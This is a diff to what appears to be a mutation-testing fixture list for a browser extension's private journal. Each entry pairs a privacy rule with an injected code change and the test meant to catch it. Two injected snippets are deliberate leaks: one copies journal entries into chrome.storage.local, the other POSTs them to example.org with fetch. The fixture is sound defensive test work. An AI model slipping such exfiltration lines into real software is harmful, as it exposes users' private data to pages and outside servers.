@@ -81,8 +81,8 @@ export const SURFACES = [
       {
         rule: 'Nothing of the journal is put where content scripts can read',
         file: 'src/ui/save.ts',
-        from: '  const onCommitted = () => {\n    announceChange();',
-        to: '  const onCommitted = () => {\n    const { chrome } = globalThis as unknown as { chrome: { storage: { local: { set: (items: object) => void } } } };\n    chrome.storage.local.set({ noted: JSON.stringify(entries) });\n    announceChange();',
+        from: 'onCommitted: tellOfChange,',
+        to: 'onCommitted: () => {\n    const { chrome } = globalThis as unknown as { chrome: { storage: { local: { set: (items: object) => void } } } };\n    chrome.storage.local.set({ noted: JSON.stringify(entries) });\n    tellOfChange();\n  },',
         test: 'can be read by neither the content script nor the page',
         in: 'test/e2e/isolation.spec.ts',
       },
@@ -144,8 +144,8 @@ export const SURFACES = [
       {
         rule: 'No code that can send',
         file: 'src/ui/save.ts',
-        from: '  const onCommitted = () => {\n    announceChange();',
-        to: "  const onCommitted = () => {\n    void fetch('https://example.org/', { method: 'POST', body: JSON.stringify(entries) });\n    announceChange();",
+        from: 'onCommitted: tellOfChange,',
+        to: "onCommitted: () => {\n    void fetch('https://example.org/', { method: 'POST', body: JSON.stringify(entries) });\n    tellOfChange();\n  },",
         test: 'chrome contains no way to send anything',
         in: 'package checks',
       },
